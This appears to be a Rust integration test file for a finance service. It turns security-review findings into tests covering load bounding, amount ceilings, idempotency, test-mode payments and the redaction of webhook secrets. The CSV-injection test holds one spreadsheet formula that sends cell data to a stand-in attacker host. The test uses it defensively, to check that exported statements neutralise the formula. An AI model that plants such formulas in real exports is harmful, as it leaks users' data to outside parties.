//! The attack review's findings (issue 20), each as a test on both engines that failed before
//! its fix: bounded as-of work, amount ceilings, idempotency under concurrency, test-mode
//! payments, CSV formulas, secrets at rest and rotation, tokens, identifiers and the smaller
//! ones.

use std::time::{Duration, Instant};

use projections::as_of::AsOfAnswer;
use serde_json::json;

use crate::app::{spawn_app_seeded_with, Answer, TestApp, ADMIN_TOKEN};
use crate::helpers::Engine;
use crate::history::Generator;

/// Events in the generated history the as-of storm replays: enough that one replay is real
/// work (tens of milliseconds and more), few enough to generate in seconds.
const STORM_HISTORY_EVENTS: i64 = 3_000;

/// Concurrent clients sending as-of requests during the storm.
const STORM_CLIENTS: usize = 8;

/// How long the storm lasts.
const STORM_SECONDS: u64 = 4;

/// Leads captured (and timed) before and during the storm.
const TIMED_COMMANDS: usize = 12;

fn median(mut samples: Vec<Duration>) -> Duration {
    samples.sort();
    samples[samples.len() / 2]
}

async fn capture_lead(app: &TestApp, n: usize) -> Duration {
    let started = Instant::now();
    let answer = app
        .request(
            "POST",
            "/api/leads",
            &[
                ("Authorization", format!("Bearer {ADMIN_TOKEN}")),
                ("Content-Type", "application/json".into()),
            ],
            json!({"name": format!("Timed {n}"), "email": format!("timed-{n}@example.sa"), "source": "website"})
                .to_string()
                .as_bytes(),
        )
        .await;
    assert_eq!(answer.status, 201, "{}", answer.text);
    started.elapsed()
}

async fn timed_captures(app: &TestApp, from: usize) -> Vec<Duration> {
    let mut samples = Vec::with_capacity(TIMED_COMMANDS);
    for n in from..from + TIMED_COMMANDS {
        samples.push(capture_lead(app, n).await);
    }
    samples
}

async fn as_of_history(engine: Engine) -> Option<TestApp> {
    spawn_app_seeded_with(
        engine,
        |handlers| async move {
            let mut generator = Generator::new(handlers, 20);
            generator.partners().await;
            generator.until(STORM_HISTORY_EVENTS).await;
        },
        |config| config.as_of_max_concurrent = 1,
    )
    .await
}

/// Item 1: as-of work runs on a bounded pool; beyond it a request is answered 429 with
/// `Retry-After`; a moment before the first event or at the head answers without a replay; a
/// command keeps its latency while as-of requests pile up.
async fn an_as_of_storm_is_bounded_and_commands_keep_their_latency(engine: Engine) {
    let Some(app) = as_of_history(engine).await else {
        return;
    };
    app.settle().await;
    let head = app.db.store.head_position().await.unwrap();
    let token = Some(ADMIN_TOKEN);

    // No replay for a moment before the first event, nor for one at the head.
    let replays_before = app.state.as_of.answered(AsOfAnswer::Replayed);
    for moment in ["0", "1970-01-01T00:00:00Z"] {
        let answer = app.get(&format!("/api/funnel?as_of={moment}"), token).await;
        assert_eq!(answer.status, 200, "{}", answer.text);
    }
    // (Past the head: a background sweep may append while this runs, so "the head" itself
    // could already be history by the time the request reads it.)
    for moment in ["1000000000000", "9999-12-31T23:59:59Z"] {
        let answer = app.get(&format!("/api/funnel?as_of={moment}"), token).await;
        assert_eq!(answer.status, 200, "{}", answer.text);
    }
    assert_eq!(
        app.state.as_of.answered(AsOfAnswer::Replayed),
        replays_before,
        "no replay for moments before the first event or at the head"
    );
    assert!(app.state.as_of.answered(AsOfAnswer::Empty) >= 2);
    assert!(app.state.as_of.answered(AsOfAnswer::Live) >= 2);

    let quiet = median(timed_captures(&app, 0).await);

    let stop = std::sync::Arc::new(std::sync::atomic::AtomicBool::new(false));
    let mut clients = Vec::new();
    for client in 0..STORM_CLIENTS {
        let address = app.address.clone();
        let stop = stop.clone();
        clients.push(tokio::spawn(async move {
            let (mut replayed, mut refused) = (0u32, 0u32);
            let mut n = 0i64;
            while !stop.load(std::sync::atomic::Ordering::Relaxed) {
                // A different moment inside the history each time: every one needs a replay.
                let moment = head / 3 + (client as i64 * 37 + n) % (head / 3);
                n += 1;
                let answer = crate::app::http_request(
                    &address,
                    "GET",
                    &format!("/api/funnel?as_of={moment}"),
                    &[("Authorization", format!("Bearer {ADMIN_TOKEN}"))],
                    b"",
                )
                .await;
                match answer.status {
                    200 => replayed += 1,
                    429 => {
                        let retry_after: u64 = answer
                            .header("retry-after")
                            .and_then(|v| v.parse().ok())
                            .expect("a 429 says when to retry");
                        assert!(retry_after >= 1, "{:?}", answer.headers);
                        assert_eq!(answer.body["error"], "as_of_busy");
                        refused += 1;
                        tokio::time::sleep(Duration::from_millis(20)).await;
                    }
                    other => panic!("as-of answered {other}: {}", answer.text),
                }
            }
            (replayed, refused)
        }));
    }
    // Let the storm build before timing commands in it.
    tokio::time::sleep(Duration::from_millis(300)).await;
    let started = Instant::now();
    let stormy = timed_captures(&app, TIMED_COMMANDS).await;
    let remaining = Duration::from_secs(STORM_SECONDS).saturating_sub(started.elapsed());
    tokio::time::sleep(remaining).await;
    stop.store(true, std::sync::atomic::Ordering::Relaxed);
    let (mut replayed, mut refused) = (0, 0);
    for client in clients {
        let (r, f) = client.await.unwrap();
        replayed += r;
        refused += f;
    }
    let stormy = median(stormy);
    eprintln!(
        "{engine:?}: capture median {quiet:?} quiet, {stormy:?} during the storm; \
         as-of {replayed} answered, {refused} refused"
    );
    assert!(replayed >= 1, "some as-of requests were answered");
    assert!(refused >= 1, "as-of requests beyond the bound were refused");
    // A loose bound, well above a command's normal latency and well below what the unbounded
    // storm did to it (here: 1.7 ms quiet, 193 ms in the storm; 3 ms in it once bounded). The
    // machine is shared, so the bound is relative to the quiet figure and generous.
    assert!(
        stormy < quiet * 10 + Duration::from_millis(50),
        "a command took {stormy:?} (median) during the as-of storm, {quiet:?} without it"
    );
    app.stop().await;
}

mod as_of_storm {
    use super::*;

    #[tokio::test(flavor = "multi_thread", worker_threads = 2)]
    async fn sqlite_an_as_of_storm_is_bounded_and_commands_keep_their_latency() {
        an_as_of_storm_is_bounded_and_commands_keep_their_latency(Engine::Sqlite).await;
    }

    #[tokio::test(flavor = "multi_thread", worker_threads = 2)]
    async fn postgres_an_as_of_storm_is_bounded_and_commands_keep_their_latency() {
        an_as_of_storm_is_bounded_and_commands_keep_their_latency(Engine::Postgres).await;
    }
}

// ---------------------------------------------------------------------------------------------
// Item 2: amounts have a ceiling; an event beyond it never makes a finance read fail for good.

use adapters::store::{AppendRequest, EventMetadata, ExpectedVersion, NewEvent};
use domain::money::{MAX_AMOUNT_HALALAS, MAX_LINE_QUANTITY};
use proptest::prelude::*;
use proptest::test_runner::{Config as ProptestConfig, TestCaseError, TestRunner};

/// Invoices sent with extreme amounts per engine: each is one HTTP request.
const EXTREME_INVOICE_CASES: u32 = 48;

/// An admin's bearer token with a JSON content type.
pub fn admin_json() -> Vec<(&'static str, String)> {
    vec![
        ("Authorization", format!("Bearer {ADMIN_TOKEN}")),
        ("Content-Type", "application/json".into()),
    ]
}

/// Every finance read answers 200 (never a lasting 500).
async fn every_finance_route_answers(app: &TestApp) {
    let token = Some(ADMIN_TOKEN);
    for path in [
        "/api/ledger/trial-balance",
        "/api/ledger/accounts/accounts_receivable",
        "/api/reconciliation",
        "/api/revenue",
        "/api/funnel",
        "/api/projections",
        "/api/partners/p-extreme/statements/2026-12",
        "/api/partners/p-extreme/statements/2026-12.csv",
    ] {
        let answer = app.get(path, token).await;
        assert!(
            answer.status == 200 || (answer.status == 404 && path.contains("accounts/")),
            "{path} answered {}: {}",
            answer.status,
            answer.text
        );
    }
}

fn extreme_price() -> impl Strategy<Value = i64> {
    prop_oneof![
        0..=1_000_000i64,
        (MAX_AMOUNT_HALALAS - 2)..=(MAX_AMOUNT_HALALAS + 2),
        (MAX_AMOUNT_HALALAS + 1)..=i64::MAX,
        Just(8_000_000_000_000_000_000i64),
        Just(i64::MAX),
    ]
}

fn extreme_quantity() -> impl Strategy<Value = u32> {
    prop_oneof![
        1..=12u32,
        (MAX_LINE_QUANTITY - 1)..=(MAX_LINE_QUANTITY + 1),
        Just(u32::MAX),
    ]
}

fn extreme_amounts(engine: Engine) {
    let runtime = tokio::runtime::Builder::new_multi_thread()
        .worker_threads(2)
        .enable_all()
        .build()
        .unwrap();
    let Some(app) = runtime.block_on(crate::app::spawn_app(engine)) else {
        return;
    };
    runtime.block_on(async {
        let lead = json!({"lead_id": "lead-extreme", "name": "Extreme", "email": "x@example.sa", "source": "website"});
        let answer = app
            .request("POST", "/api/leads", &admin_json(), lead.to_string().as_bytes())
            .await;
        assert_eq!(answer.status, 201, "{}", answer.text);
        let partner = json!({"partner_id": "p-extreme", "name": "P", "email": "p@example.sa"});
        let answer = app
            .request("POST", "/api/partners", &admin_json(), partner.to_string().as_bytes())
            .await;
        assert_eq!(answer.status, 201, "{}", answer.text);
    });
    let lines = prop::collection::vec((extreme_quantity(), extreme_price()), 1..=3);
    let mut runner = TestRunner::new(ProptestConfig::with_cases(EXTREME_INVOICE_CASES));
    let result = runner.run(&lines, |lines| {
        let body = json!({
            "lead_id": "lead-extreme",
            "lines": lines.iter().map(|(quantity, price)| json!({
                "description": "seats", "quantity": quantity, "unit_price_halalas": price
            })).collect::<Vec<_>>(),
        });
        let answer = runtime.block_on(app.request(
            "POST",
            "/api/invoices",
            &admin_json(),
            body.to_string().as_bytes(),
        ));
        let surely_beyond = lines
            .iter()
            .any(|(q, p)| *p > MAX_AMOUNT_HALALAS || *q > MAX_LINE_QUANTITY);
        match answer.status {
            201 if !surely_beyond => Ok(()),
            422 => {
                let field = answer.body["field"].as_str().unwrap_or_default().to_owned();
                let named = field.starts_with("lines[")
                    || field == "subtotal_halalas"
                    || field == "total_halalas"
                    || answer.body["detail"]
                        .as_str()
                        .unwrap_or("")
                        .contains("quantity");
                if named {
                    Ok(())
                } else {
                    Err(TestCaseError::fail(format!(
                        "422 names no field: {}",
                        answer.text
                    )))
                }
            }
            other => Err(TestCaseError::fail(format!(
                "{lines:?} answered {other}: {}",
                answer.text
            ))),
        }
    });
    if let Err(failure) = result {
        panic!("{failure}");
    }
    runtime.block_on(async {
        // A payment report beyond the ceiling is refused at the door, naming its field.
        let payment = crate::webhooks::payment_paid(
            "delivery-extreme",
            "pay-extreme",
            8_000_000_000_000_000_000,
            None,
            None,
        );
        let answer = app.post_moyasar_webhook(&payment).await;
        assert_eq!(answer.status, 400, "{}", answer.text);
        assert_eq!(answer.body["field"], "data.amount", "{}", answer.text);
        app.settle().await;
        every_finance_route_answers(&app).await;
        app.stop().await;
    });
}

#[test]
fn sqlite_extreme_amounts_are_refused_naming_the_field_and_every_finance_route_still_answers() {
    extreme_amounts(Engine::Sqlite);
}

#[test]
fn postgres_extreme_amounts_are_refused_naming_the_field_and_every_finance_route_still_answers() {
    extreme_amounts(Engine::Postgres);
}

/// An `InvoiceIssued` (and its payment) written before the ceiling existed, appended behind the
/// domain's back: the money read models set them aside, every finance route answers, the
/// quarantine is listed, and a rebuild equals the live tables.
async fn an_event_beyond_the_ceiling_is_quarantined_not_a_lasting_500(engine: Engine) {
    let Some(app) = crate::app::spawn_app(engine).await else {
        return;
    };
    let partner = json!({"partner_id": "p-extreme", "name": "P", "email": "p@example.sa"});
    let answer = app
        .request(
            "POST",
            "/api/partners",
            &admin_json(),
            partner.to_string().as_bytes(),
        )
        .await;
    assert_eq!(answer.status, 201, "{}", answer.text);
    let at = time::OffsetDateTime::now_utc();
    let (invoice_id, _) = app
        .issue_invoice("lead-normal", domain::plan::Plan::Growth, None, at)
        .await;
    let issued = app.stream(&format!("invoice-{invoice_id}")).await;
    let mut payload = issued[0].payload.clone();
    let huge = 8_000_000_000_000_000_000i64;
    payload["invoice_id"] = json!("invoice-before-the-ceiling");
    payload["lines"][0]["unit_price_halalas"] = json!(huge);
    for field in ["subtotal_halalas", "total_halalas"] {
        payload[field] = json!(huge);
    }
    for n in 0..3 {
        let request = AppendRequest {
            stream_id: format!("invoice-before-the-ceiling-{n}"),
            stream_type: "invoice".into(),
            expected_version: ExpectedVersion::NoStream,
            command_id: None,
            events: vec![NewEvent {
                event_id: uuid::Uuid::now_v7(),
                event_type: issued[0].event_type.clone(),
                schema_version: issued[0].schema_version,
                payload: payload.clone(),
                metadata: EventMetadata::default(),
            }],
            inbox: None,
        };
        app.db.store.append(request).await.unwrap();
    }
    app.settle().await;
    every_finance_route_answers(&app).await;
    let lags = app.get("/api/projections", Some(ADMIN_TOKEN)).await;
    for projection in lags.body["projections"].as_array().unwrap() {
        let quarantined = projection["quarantined_events"].as_array().unwrap();
        let money = ["ledger", "revenue", "partner_statements", "reconciliation"]
            .contains(&projection["name"].as_str().unwrap());
        assert_eq!(quarantined.len(), if money { 3 } else { 0 }, "{projection}");
        if money {
            let reason = quarantined[0]["reason"].as_str().unwrap();
            assert!(reason.contains("8000000000000000000"), "{reason}");
        }
    }
    let balance = app
        .get("/api/ledger/trial-balance", Some(ADMIN_TOKEN))
        .await;
    assert_eq!(balance.body["balanced"], true, "{}", balance.text);
    crate::projections::assert_rebuild_equals_live(&app.db).await;
    app.stop().await;
}

mod quarantine {
    #[tokio::test(flavor = "multi_thread", worker_threads = 2)]
    async fn sqlite_an_event_beyond_the_ceiling_is_quarantined_not_a_lasting_500() {
        super::an_event_beyond_the_ceiling_is_quarantined_not_a_lasting_500(super::Engine::Sqlite)
            .await;
    }

    #[tokio::test(flavor = "multi_thread", worker_threads = 2)]
    async fn postgres_an_event_beyond_the_ceiling_is_quarantined_not_a_lasting_500() {
        super::an_event_beyond_the_ceiling_is_quarantined_not_a_lasting_500(
            super::Engine::Postgres,
        )
        .await;
    }
}

// ---------------------------------------------------------------------------------------------
// Item 3: an Idempotency-Key is claimed before its command runs.

/// Trials of four concurrent requests sharing one key.
const IDEMPOTENCY_TRIALS: usize = 15;

async fn post_lead_with_key(address: &str, key: &str, body: &serde_json::Value) -> Answer {
    let mut headers = admin_json();
    headers.push(("Idempotency-Key", key.to_owned()));
    crate::app::http_request(
        address,
        "POST",
        "/api/leads",
        &headers,
        body.to_string().as_bytes(),
    )
    .await
}

async fn four_at_once(app: &TestApp, key: &str, bodies: Vec<serde_json::Value>) -> Vec<Answer> {
    let requests = bodies.into_iter().map(|body| {
        let address = app.address.clone();
        let key = key.to_owned();
        tokio::spawn(async move { post_lead_with_key(&address, &key, &body).await })
    });
    let mut answers = Vec::new();
    for request in requests.collect::<Vec<_>>() {
        answers.push(request.await.unwrap());
    }
    answers
}

fn lead_body(trial: usize, n: usize) -> serde_json::Value {
    json!({"name": format!("Lead {trial}-{n}"), "email": format!("l{trial}-{n}@example.sa"), "source": "website"})
}

async fn an_idempotency_key_is_claimed_before_its_command_runs(engine: Engine) {
    let Some(app) = crate::app::spawn_app(engine).await else {
        return;
    };
    for trial in 0..IDEMPOTENCY_TRIALS {
        // Four different bodies under one key: one is applied, the others are refused.
        let key = format!("different-{trial}");
        let bodies: Vec<_> = (0..4).map(|n| lead_body(trial, n)).collect();
        let answers = four_at_once(&app, &key, bodies.clone()).await;
        let created: Vec<&Answer> = answers.iter().filter(|a| a.status == 201).collect();
        assert_eq!(created.len(), 1, "one body is applied: {answers:?}");
        for answer in answers.iter().filter(|a| a.status != 201) {
            assert!(
                answer.status == 422 || answer.status == 409,
                "another body under the same key: {} {}",
                answer.status,
                answer.text
            );
        }
        let winner = created[0];
        assert_eq!(winner.body["replayed"], false, "{}", winner.text);
        let lead_id = winner.body["lead_id"].as_str().unwrap().to_owned();
        let lead = app
            .get(&format!("/api/leads/{lead_id}"), Some(ADMIN_TOKEN))
            .await;
        assert_eq!(lead.status, 200, "{}", lead.text);
        // Which body won: the one whose resend is answered with the stored answer.
        let winners: Vec<_> = {
            let mut found = Vec::new();
            for body in &bodies {
                let again = post_lead_with_key(&app.address, &key, body).await;
                if again.status == 201 {
                    assert_eq!(again.header(api::finance::REPLAYED_HEADER), Some("true"));
                    assert_eq!(again.body, winner.body, "the stored answer, as first sent");
                    found.push(body.clone());
                } else {
                    assert_eq!(again.status, 422, "{}", again.text);
                    assert_eq!(again.body["error"], "idempotency_key_reused");
                }
            }
            found
        };
        assert_eq!(winners.len(), 1, "exactly one body owns the key");

        // The same body four times at once: one runs; each other is 409 (still running) or
        // the first answer again, never a second lead.
        let key = format!("same-{trial}");
        let body = lead_body(trial, 9);
        let answers = four_at_once(&app, &key, vec![body.clone(); 4]).await;
        let first: Vec<&Answer> = answers
            .iter()
            .filter(|a| a.status == 201 && a.header(api::finance::REPLAYED_HEADER).is_none())
            .collect();
        assert_eq!(first.len(), 1, "{answers:?}");
        for answer in &answers {
            match answer.status {
                201 => assert_eq!(answer.body, first[0].body, "one lead, one answer"),
                409 => assert!(answer.body["detail"]
                    .as_str()
                    .unwrap()
                    .contains("in progress")),
                other => panic!("the same body answered {other}: {}", answer.text),
            }
        }
    }
    // An empty key is no key at all: 400, naming the header.
    for empty in ["", "   "] {
        let answer = post_lead_with_key(&app.address, empty, &lead_body(99, 0)).await;
        assert_eq!(answer.status, 400, "{:?}: {}", empty, answer.text);
        assert_eq!(answer.body["field"], "Idempotency-Key");
    }
    let answer = post_lead_with_key(&app.address, &"k".repeat(256), &lead_body(99, 1)).await;
    assert_eq!(answer.status, 400, "{}", answer.text);
    // A refusal is not kept: the same key and body run again (and succeed once the rule
    // holds), under the same command id.
    let lead = json!({"lead_id": "lead-key-later", "name": "Later", "email": "later@example.sa", "source": "website"});
    let qualify = |address: String| async move {
        let mut headers = admin_json();
        headers.push(("Idempotency-Key", "qualify-later".to_owned()));
        crate::app::http_request(
            &address,
            "POST",
            "/api/leads/lead-key-later/qualify",
            &headers,
            b"",
        )
        .await
    };
    let refused = qualify(app.address.clone()).await;
    assert_eq!(refused.status, 404, "{}", refused.text);
    let answer = post_lead_with_key(&app.address, "capture-later", &lead).await;
    assert_eq!(answer.status, 201, "{}", answer.text);
    let qualified = qualify(app.address.clone()).await;
    assert_eq!(qualified.status, 200, "{}", qualified.text);
    assert_eq!(qualified.header(api::finance::REPLAYED_HEADER), None);
    let replayed = qualify(app.address.clone()).await;
    assert_eq!((replayed.status, &replayed.body), (200, &qualified.body));
    assert_eq!(replayed.header(api::finance::REPLAYED_HEADER), Some("true"));
    app.stop().await;
}

mod idempotency {
    #[tokio::test(flavor = "multi_thread", worker_threads = 4)]
    async fn sqlite_an_idempotency_key_is_claimed_before_its_command_runs() {
        super::an_idempotency_key_is_claimed_before_its_command_runs(super::Engine::Sqlite).await;
    }

    #[tokio::test(flavor = "multi_thread", worker_threads = 4)]
    async fn postgres_an_idempotency_key_is_claimed_before_its_command_runs() {
        super::an_idempotency_key_is_claimed_before_its_command_runs(super::Engine::Postgres).await;
    }
}

// ---------------------------------------------------------------------------------------------
// Item 4: a test-mode payment never changes a live invoice, lead, commission or journal.

async fn event_types_of(app: &TestApp, stream_id: &str) -> Vec<String> {
    app.stream(stream_id)
        .await
        .into_iter()
        .map(|event| event.event_type)
        .collect()
}

async fn inbox_status(app: &TestApp, delivery_id: &str) -> String {
    app.db
        .store
        .sql()
        .fetch_optional(
            "SELECT status FROM webhook_inbox WHERE provider = 'moyasar' AND delivery_id = ?",
            &[delivery_id.into()],
        )
        .await
        .unwrap()
        .expect("the delivery is kept")
        .text(0)
        .unwrap()
}

async fn a_test_mode_payment_never_touches_a_live_ledger(engine: Engine) {
    let Some(app) = crate::app::spawn_app(engine).await else {
        return;
    };
    crate::webhooks::capture_lead(&app, "lead-t1", "t1@example.sa").await;
    let now = time::OffsetDateTime::now_utc();
    let (invoice_id, total) = app
        .issue_invoice("lead-t1", domain::plan::Plan::Growth, None, now)
        .await;
    let mut payment =
        crate::webhooks::payment_paid("evt-test", "pay-test", total, Some(&invoice_id), None);
    payment["live"] = json!(false);
    let answer = app.post_moyasar_webhook(&payment).await;
    assert_eq!(answer.status, 200, "{}", answer.text);
    assert_eq!(
        answer.body["status"], "ignored_test_mode",
        "{}",
        answer.text
    );
    // Delivered again: the same answer, still nothing applied.
    let again = app.post_moyasar_webhook(&payment).await;
    assert_eq!((again.status, &again.body), (200, &answer.body));
    app.settle().await;
    assert!(
        app.stream("payment-pay-test").await.is_empty(),
        "no payment"
    );
    assert_eq!(
        event_types_of(&app, &format!("invoice-{invoice_id}")).await,
        ["InvoiceIssued"],
        "the invoice is not paid"
    );
    assert!(!event_types_of(&app, "lead-lead-t1")
        .await
        .contains(&"LeadPaid".to_owned()));
    assert_eq!(inbox_status(&app, "evt-test").await, "ignored");
    let balance = app
        .get("/api/ledger/trial-balance", Some(ADMIN_TOKEN))
        .await;
    let cash = balance.body["accounts"]
        .as_array()
        .unwrap()
        .iter()
        .find(|a| a["account"] == "cash");
    assert!(
        cash.is_none(),
        "no cash from a test payment: {}",
        balance.text
    );
    // The same invoice paid live afterwards is paid once, by the live payment.
    let live =
        crate::webhooks::payment_paid("evt-live", "pay-live", total, Some(&invoice_id), None);
    let answer = app.post_moyasar_webhook(&live).await;
    assert_eq!(answer.body["status"], "accepted", "{}", answer.text);
    app.settle().await;
    assert!(event_types_of(&app, &format!("invoice-{invoice_id}"))
        .await
        .contains(&"InvoicePaid".to_owned()));
    app.stop().await;

    // A sandbox ledger is all test data: test payments apply, live ones are kept and ignored.
    let Some(sandbox) = crate::app::spawn_app_with(engine, |config| config.sandbox = true).await
    else {
        return;
    };
    crate::webhooks::capture_lead(&sandbox, "lead-s1", "s1@example.sa").await;
    let (invoice_id, total) = sandbox
        .issue_invoice("lead-s1", domain::plan::Plan::Starter, None, now)
        .await;
    let live = crate::webhooks::payment_paid("evt-l", "pay-l", total, Some(&invoice_id), None);
    let answer = sandbox.post_moyasar_webhook(&live).await;
    assert_eq!(
        answer.body["status"], "ignored_live_mode",
        "{}",
        answer.text
    );
    let mut test = crate::webhooks::payment_paid("evt-t", "pay-t", total, Some(&invoice_id), None);
    test["live"] = json!(false);
    let answer = sandbox.post_moyasar_webhook(&test).await;
    assert_eq!(answer.body["status"], "accepted", "{}", answer.text);
    sandbox.settle().await;
    assert!(event_types_of(&sandbox, &format!("invoice-{invoice_id}"))
        .await
        .contains(&"InvoicePaid".to_owned()));
    assert!(sandbox.stream("payment-pay-l").await.is_empty());
    sandbox.stop().await;
}

mod test_mode {
    #[tokio::test(flavor = "multi_thread", worker_threads = 2)]
    async fn sqlite_a_test_mode_payment_never_touches_a_live_ledger() {
        super::a_test_mode_payment_never_touches_a_live_ledger(super::Engine::Sqlite).await;
    }

    #[tokio::test(flavor = "multi_thread", worker_threads = 2)]
    async fn postgres_a_test_mode_payment_never_touches_a_live_ledger() {
        super::a_test_mode_payment_never_touches_a_live_ledger(super::Engine::Postgres).await;
    }
}

// ---------------------------------------------------------------------------------------------
// Items 7 and 8: the Moyasar secret is never stored; several secrets rotate without loss.

/// The database's tables and every text they hold, one string per row.
async fn every_row_as_text(db: &crate::helpers::TestDb) -> Vec<(String, String)> {
    let sql = db.store.sql();
    let tables_sql = match db.engine {
        Engine::Sqlite => {
            "SELECT name FROM sqlite_master WHERE type = 'table' AND name NOT LIKE 'sqlite_%'"
        }
        Engine::Postgres => {
            "SELECT table_name::text FROM information_schema.tables WHERE table_schema = 'public'"
        }
    };
    let tables: Vec<String> = sql
        .fetch_all(tables_sql, &[])
        .await
        .unwrap()
        .iter()
        .map(|row| row.text(0).unwrap())
        .collect();
    assert!(tables.len() > 20, "{tables:?}");
    let mut rows = Vec::new();
    for table in tables {
        match db.engine {
            Engine::Sqlite => {
                for row in projections::runtime::dump_table(&sql, &table)
                    .await
                    .unwrap()
                {
                    rows.push((table.clone(), format!("{row:?}")));
                }
            }
            // Every column type (jsonb, bytea, uuid, timestamps) as PostgreSQL writes it.
            Engine::Postgres => {
                let query = format!("SELECT CAST(t AS text) FROM \"{table}\" AS t");
                for row in sql.fetch_all(&query, &[]).await.unwrap() {
                    rows.push((table.clone(), row.text(0).unwrap()));
                }
            }
        }
    }
    rows
}

const ROTATED_OUT: &str = "old-moyasar-secret-being-rotated-out";

async fn the_moyasar_secret_is_stored_nowhere_and_rotates(engine: Engine) {
    let Some(app) = crate::app::spawn_app_with(engine, |config| {
        config
            .moyasar_secret_tokens
            .push(adapters::webhooks::Secret::new(ROTATED_OUT));
    })
    .await
    else {
        return;
    };
    crate::webhooks::capture_lead(&app, "lead-k1", "k1@example.sa").await;
    let now = time::OffsetDateTime::now_utc();
    let (invoice_id, total) = app
        .issue_invoice("lead-k1", domain::plan::Plan::Growth, None, now)
        .await;
    // Accepted, parked (an unknown invoice), malformed, and a conflicting repeat: every kind
    // of row the inbox keeps. One with each configured secret.
    let paid = crate::webhooks::payment_paid("evt-k1", "pay-k1", total, Some(&invoice_id), None);
    assert_eq!(
        app.post_moyasar_webhook(&paid).await.body["status"],
        "accepted"
    );
    let mut rotated = crate::webhooks::payment_paid("evt-k2", "pay-k2", 100, Some("no-such"), None);
    rotated["secret_token"] = json!(ROTATED_OUT);
    let answer = app.post_moyasar_webhook(&rotated).await;
    assert!(
        answer.status == 200 || answer.status == 202,
        "{}",
        answer.text
    );
    let mut malformed = paid.clone();
    malformed["id"] = json!("evt-k3");
    malformed["data"]["currency"] = json!("USD");
    assert_eq!(app.post_moyasar_webhook(&malformed).await.status, 400);
    let mut conflicting = paid.clone();
    conflicting["data"]["description"] = json!("changed");
    assert_eq!(app.post_moyasar_webhook(&conflicting).await.status, 409);
    // A secret neither configured now nor before is refused, and nothing is kept.
    let mut forged = paid.clone();
    forged["secret_token"] = json!("never-configured");
    forged["id"] = json!("evt-k4");
    assert_eq!(app.post_moyasar_webhook(&forged).await.status, 401);
    // The repeat of an accepted delivery is still recognised after redaction.
    let again = app.post_moyasar_webhook(&paid).await;
    assert_eq!(again.body["status"], "accepted", "{}", again.text);
    app.settle().await;

    for (table, row) in every_row_as_text(&app.db).await {
        for secret in [crate::app::MOYASAR_TOKEN, ROTATED_OUT] {
            assert!(
                !row.contains(secret),
                "{table} holds the Moyasar secret: {row}"
            );
        }
    }
    let kept: String = app
        .db
        .store
        .sql()
        .fetch_optional(
            "SELECT raw_body FROM webhook_inbox WHERE delivery_id = 'evt-k1'",
            &[],
        )
        .await
        .unwrap()
        .unwrap()
        .text(0)
        .unwrap();
    let kept = crate::helpers::opened_text(&app.db.store, &kept).await;
    assert!(kept.contains("\"[redacted]\""), "{kept}");

    // A row kept before bodies were redacted (as an older version wrote it) is rewritten when
    // the service starts.
    let legacy = serde_json::to_string(&crate::webhooks::payment_paid(
        "evt-old", "pay-old", 5, None, None,
    ))
    .unwrap();
    adapters::inbox::record_without_events(
        &app.db.store.sql(),
        &adapters::inbox::InboxRecord::new("moyasar", "evt-old", legacy.as_bytes(), now),
        "rejected",
        Some("an older row"),
    )
    .await
    .unwrap();
    let service = api::Service::start(
        app.db.store.clone(),
        api::Config {
            moyasar_secret_tokens: vec![adapters::webhooks::Secret::new(crate::app::MOYASAR_TOKEN)],
            listen: "127.0.0.1:0".parse().unwrap(),
            run_workers: false,
            ..api::Config::default()
        },
    )
    .await
    .unwrap();
    drop(service);
    for (table, row) in every_row_as_text(&app.db).await {
        assert!(
            !row.contains(crate::app::MOYASAR_TOKEN),
            "{table} still holds it: {row}"
        );
    }
    app.stop().await;
}

mod secrets_at_rest {
    #[tokio::test(flavor = "multi_thread", worker_threads = 2)]
    async fn sqlite_the_moyasar_secret_is_stored_nowhere_and_rotates() {
        super::the_moyasar_secret_is_stored_nowhere_and_rotates(super::Engine::Sqlite).await;
    }

    #[tokio::test(flavor = "multi_thread", worker_threads = 2)]
    async fn postgres_the_moyasar_secret_is_stored_nowhere_and_rotates() {
        super::the_moyasar_secret_is_stored_nowhere_and_rotates(super::Engine::Postgres).await;
    }
}

// ---------------------------------------------------------------------------------------------
// Item 5: a statement's CSV cannot carry a formula to a spreadsheet.

async fn a_rejection_reason_reaches_the_statement_csv_as_text_not_a_formula(engine: Engine) {
    let Some(app) = crate::app::spawn_app(engine).await else {
        return;
    };
    let (commission_id, _) = crate::finance_api::accrue(&app, "p-csv", "csv-lead").await;
    let reason = r#"=HYPERLINK("http://evil.example/?x="&A1,"Click")"#;
    let answer = app
        .request(
            "POST",
            &format!("/api/commissions/{commission_id}/reject"),
            &admin_json(),
            json!({"reason": format!("{reason}\rsecond line")})
                .to_string()
                .as_bytes(),
        )
        .await;
    assert_eq!(answer.status, 200, "{}", answer.text);
    app.settle().await;
    // The rejection is a line of the month it happened in (now), not of the accrual's.
    let now = time::OffsetDateTime::now_utc();
    let this_month = format!("{:04}-{:02}", now.year(), u8::from(now.month()));
    let csv = app
        .get(
            &format!("/api/partners/p-csv/statements/{this_month}.csv"),
            Some(ADMIN_TOKEN),
        )
        .await;
    assert_eq!(csv.status, 200, "{}", csv.text);
    let mut reader = ::csv::ReaderBuilder::new().from_reader(csv.text.as_bytes());
    let references: Vec<String> = reader
        .records()
        .map(|record| record.unwrap()[3].to_owned())
        .collect();
    let rejected = references
        .iter()
        .find(|reference| reference.contains("HYPERLINK"))
        .unwrap_or_else(|| panic!("the reason is in the CSV: {}", csv.text));
    assert_eq!(rejected, &format!("'{reason}\rsecond line"));
    assert!(
        !csv.text.lines().any(|line| line.starts_with('=')),
        "{}",
        csv.text
    );
    app.stop().await;
}

mod csv_injection {
    #[tokio::test(flavor = "multi_thread", worker_threads = 2)]
    async fn sqlite_a_rejection_reason_reaches_the_statement_csv_as_text_not_a_formula() {
        super::a_rejection_reason_reaches_the_statement_csv_as_text_not_a_formula(
            super::Engine::Sqlite,
        )
        .await;
    }

    #[tokio::test(flavor = "multi_thread", worker_threads = 2)]
    async fn postgres_a_rejection_reason_reaches_the_statement_csv_as_text_not_a_formula() {
        super::a_rejection_reason_reaches_the_statement_csv_as_text_not_a_formula(
            super::Engine::Postgres,
        )
        .await;
    }
}

// ---------------------------------------------------------------------------------------------
// Items 10 and 11: one identifier grammar and one text rule at every door; the smaller ones.

/// `value`'s `$ref` followed into `document`'s components, or `value` itself.
fn resolved<'a>(
    document: &'a serde_json::Value,
    value: &'a serde_json::Value,
) -> &'a serde_json::Value {
    match value["$ref"].as_str() {
        Some(reference) => {
            let path = reference.trim_start_matches("#/");
            path.split('/').fold(document, |node, key| &node[key])
        }
        None => value,
    }
}

